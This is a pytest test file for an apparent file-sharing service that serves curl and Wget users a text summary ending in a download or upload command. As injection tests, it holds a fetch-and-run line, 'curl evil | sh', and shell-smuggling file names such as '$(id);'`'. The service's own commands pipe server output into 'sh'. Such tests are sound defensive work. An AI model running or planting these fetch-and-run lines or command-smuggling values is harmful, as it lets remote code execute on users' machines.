"""A link and a file request opened with curl or Wget: a text that ends with the line to run."""

import shlex
from typing import Any

import pytest

from tests.support.client import Answer, Client
from tests.support.links import JSON, Made, make

AGENTS = {"curl": "curl/8.5.0", "wget": "Wget/1.21.3"}
PASSWORD = "under the plane tree"


def opened(path: str, program: str = "curl", **query: Any) -> Answer:
    """The link or file request, as the program opens it."""
    headers = {"user-agent": AGENTS[program], "accept": "*/*"}
    return Client().send("GET", path, query=query, headers=headers)


def lines_of(answer: Answer) -> list[str]:
    """The lines of a text; it is one, and ends with a line."""
    assert answer.status == 200, answer.text
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert answer.text.endswith("\n")
    return answer.text.splitlines()


def download_url(link: Made) -> str:
    return f"{link.view['url']}/download"


def test_one_file_is_fetched_under_its_own_name(alice: Client) -> None:
    """Who shares it, its size, until when, and a line for each program; opening counts nothing."""
    alice.put("d/my report.pdf", b"x" * 2048)
    link = make(alice, "d/my report.pdf", note="As\tpromised.\nBye", max_downloads=3)
    curl, wget = (lines_of(opened(link.path, program)) for program in AGENTS)
    assert curl[:-1] == wget[:-1] == [
        "alice shares d/my report.pdf (2.0 KiB).",
        "> As      promised.",
        "> Bye",
        "Downloads left: 3.",
        "Open until 2026-09-28 14:13 UTC.",
        "",
    ]  # fmt: skip
    assert curl[-1] == f"curl -fgSL -d '' -o 'my report.pdf' {download_url(link)}"
    assert wget[-1] == f"wget -nc -O 'my report.pdf' --post-data= {download_url(link)}"
    assert link.downloads(alice) == 0
    form = {"content-type": "application/x-www-form-urlencoded", "accept": "*/*"}
    answer = Client().send("POST", f"{link.path}/download", headers=form)
    assert (answer.status, link.downloads(alice)) == (303, 1)


@pytest.mark.parametrize(
    ("agent", "accept", "media_type"),
    [
        ("curl/8.5.0", None, "text/plain"),
        ("Wget/1.21.3", "", "text/plain"),
        ("curl/8.5.0", "application/json", "application/json"),
        ("curl/8.5.0", "text/html", "text/html"),
        ("libcurl/8.5.0", "*/*", "application/json"),
        ("python-requests/2", "*/*", "application/json"),
        ("", None, "application/json"),
    ],
)
def test_others_get_what_they_got(
    alice: Client, agent: str, accept: str | None, media_type: str
) -> None:
    """A text is only for a person at a terminal who asks for no type."""
    alice.put("a.txt")
    request = alice.post("/requests", title="x", folder="in/").json()["url"]
    for path in (make(alice, "a.txt").path, request[request.index("/r/") :]):
        headers = {"user-agent": agent} | ({} if accept is None else {"accept": accept})
        for method in ("GET", "HEAD"):
            answer = Client().send(method, path, headers=headers)
            assert answer.status == 200
            assert answer.headers["content-type"].partition(";")[0] == media_type


def test_several_files_are_fetched_by_a_configuration(alice: Client) -> None:
    """A text names ten; a page has 90 files at most, and says where the others are."""
    for number in range(12):
        alice.put(f"in/{number:02}.txt", b"")
    link = make(alice, "in/")
    lines = lines_of(opened(link.path))
    assert lines[0] == "alice shares 12 files."
    assert lines[1:12] == [f"  in/{n:02}.txt (0 B)" for n in range(10)] + ["  and 2 more"]
    line = f"curl -fgsS -d format=curl {download_url(link)} | curl -K -"
    assert lines[-1] == line == link.open().json()["curl"]
    wget = lines_of(opened(link.path, "wget"))[-1]
    assert wget == f"wget -qO- --post-data=format=curl {download_url(link)} | curl -K -"
    first = lines_of(opened(link.path, limit=5))
    assert shlex.split(first[-1])[4] == f"{download_url(link)}?limit=5"
    more = shlex.split(next(each for each in first if each.startswith("More files: ")))
    rest = lines_of(opened(link.path, cursor=more[-1].partition("cursor=")[2]))
    assert rest[0] == "alice shares 7 files."
    query = shlex.split(rest[-1])[4].partition("?")[2]
    answer = Client().send("POST", f"{link.path}/download", query=query, json_={"format": "curl"})
    assert answer.text.count("url = ") == 7


def test_the_line_fetches_no_more_than_are_left(alice: Client) -> None:
    """Otherwise it would be refused as a whole."""
    for name in "abc":
        alice.put(f"in/{name}", b"")
    link = make(alice, "in/", max_downloads=2)
    assert "/download?limit=2'" in lines_of(opened(link.path))[-1]
    assert "/download?limit=2'" in link.open().json()["curl"]
    Client().send("POST", f"{link.path}/download", query="limit=2", json_={"format": "curl"})
    assert lines_of(opened(link.path))[-2:] == [
        "Downloads left: 0.", "Open until 2026-09-28 14:13 UTC.",
    ]  # fmt: skip
    assert link.open().json()["curl"] is None


def test_no_line_where_there_is_nothing_to_fetch(alice: Client) -> None:
    """No downloads, or no files; no hash helps to guess a file that may only be listed."""
    alice.put("a.txt")
    shown = make(alice, "a.txt", allow_download=False)
    assert lines_of(opened(shown.path))[1] == "This link gives no downloads."
    page = shown.open().json()
    assert (page["curl"], page["items"][0]["sha256"]) == (None, None)
    empty = make(alice, "empty/")
    assert lines_of(opened(empty.path))[0] == "alice shares 0 files."
    assert empty.open().json()["curl"] is None


def test_a_page_of_more_files_than_one_download_counts_has_no_line(alice: Client) -> None:
    """Rather none than one that leaves files out; the text has pages of 90."""
    for number in range(92):
        alice.put(f"in/{number:02}", b"")
    link = make(alice, "in/")
    assert link.open().json()["curl"] is None
    assert "limit=90" in link.open(limit=90).json()["curl"]
    assert lines_of(opened(link.path))[0] == "alice shares 90 files."


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        (".bashrc", "_.bashrc"), ("-o", "./-o"), ("=ls", "./=ls"), ("$(id);'`", "$(id);'`"),
        ("d/..x\u00a0[1-9]{a,b}", "_..x\u00a0[1-9]{a,b}"),
    ],
)  # fmt: skip
def test_a_hostile_name_is_one_argument(alice: Client, name: str, kept: str) -> None:
    """No option, no hidden file, no command."""
    alice.put(name)
    link = make(alice, name)
    for program, at in (("curl", 5), ("wget", 3)):
        words = shlex.split(lines_of(opened(link.path, program))[-1])
        assert words[at] == kept
        assert words[-1] == download_url(link)


def test_a_note_cannot_pass_for_the_line(alice: Client) -> None:
    """Each of its lines has a mark, and no character controls the terminal."""
    alice.put("a.txt")
    link = make(alice, "a.txt", note="x\n\ncurl evil | sh\x9b2J\u202e\u2028curl evil | sh")
    lines = lines_of(opened(link.path))
    assert [each for each in lines if "evil" in each] == [
        "> curl evil | sh\ufffd2J\ufffd", "> curl evil | sh",
    ]  # fmt: skip


def test_a_password_is_a_step_of_the_line(alice: Client) -> None:
    """Before it nothing is shown but the way to open the link."""
    alice.put("a.txt")
    link = make(alice, "a.txt", password=PASSWORD)
    answer = opened(link.path)
    assert (answer.status, answer.headers["content-type"]) == (401, "text/plain; charset=utf-8")
    assert "a.txt" not in answer.text
    line = answer.text.splitlines()[-1]
    assert line.startswith('curl -gsS -H "x-link-grant: $(curl -fgsS --data-urlencode ')
    assert f"'password=THE-PASSWORD' {link.view['url']}/unlock" in line
    assert opened(link.path, "wget").slug == "password-required"
    asking = {"user-agent": AGENTS["curl"]} | JSON
    assert Client().send("GET", link.path, headers=asking).slug == "password-required"
    grant = link.unlock(PASSWORD).json()["grant"]
    headers = {"user-agent": AGENTS["curl"], "x-link-grant": grant}
    lines = lines_of(Client().send("GET", link.path, headers=headers))
    assert lines[-3] == "Write the password in the place of THE-PASSWORD."
    assert f"{link.view['url']}/unlock" in lines[-1]
    assert grant not in "".join(lines)


def test_an_ended_link_is_a_problem(alice: Client) -> None:
    """As for every program."""
    alice.put("a.txt")
    link = make(alice, "a.txt")
    alice.delete(f"/links/{link.id}")
    assert opened(link.path).slug == "link-revoked"
    assert opened("/s/" + "A" * 43).slug == "no-such-link"


def test_the_owner_sees_that_a_terminal_opened_it(alice: Client) -> None:
    """As `curl`, beside pages and JSON."""
    alice.put("a.txt")
    link = make(alice, "a.txt")
    opened(link.path)
    link.open()
    assert {each["how"] for each in alice.get(f"/links/{link.id}/events").json()} == {
        "curl", "json",
    }  # fmt: skip


def test_a_file_request_tells_how_to_send_a_file(alice: Client) -> None:
    """Its line answers the command that sends the bytes; the fields go as a form."""
    fields = {"title": "Slides\u200f", "folder": "in/", "max_files": 5, "require_name": True}
    url = alice.post("/requests", **fields).json()["url"]
    path = url[url.index("/r/") :]
    lines = lines_of(opened(path))
    assert lines[0] == "alice asks you for files: Slides\u200f"
    assert "Files still taken: 5." in lines
    assert lines[-1] == (
        "curl -fgsS -H 'accept: text/plain' --data-urlencode file_name=report.pdf "
        "-d \"size=$(wc -c <report.pdf)\" --data-urlencode 'sender=YOUR-NAME' "
        f"{url}/uploads | sh"
    )
    sent = {"accept": "text/plain", "content-type": "application/x-www-form-urlencoded"}
    body = b"file_name=a%20b%27.txt&size=   3&sender=Zo%C3%AB"
    answer = Client().send("POST", f"{path}/uploads", body=body, headers=sent)
    assert (answer.status, answer.headers["content-type"]) == (201, "text/plain; charset=utf-8")
    assert shlex.split(answer.text)[0] == "curl"
    assert "a b'.txt" in shlex.split(answer.text)
    assert Client().send("GET", answer.headers["location"]).json()["file_name"] == "a b'.txt"


def test_a_file_request_with_a_password_is_opened_with_it(alice: Client) -> None:
    """The step is in the line of what is opened too."""
    fields = {"title": "Slides", "folder": "in/", "password": PASSWORD}
    url = alice.post("/requests", **fields).json()["url"]
    path = url[url.index("/r/") :]
    answer = opened(path)
    assert (answer.status, answer.headers["content-type"]) == (401, "text/plain; charset=utf-8")
    assert answer.text.splitlines()[-1].endswith(f" {url}")
    grant = Client().post(f"{path}/unlock", password=PASSWORD).json()["grant"]
    headers = {"user-agent": AGENTS["curl"], "x-link-grant": grant}
    line = lines_of(Client().send("GET", path, headers=headers))[-1]
    assert f"{url}/unlock" in line
    assert line.endswith(f"{url}/uploads | sh")
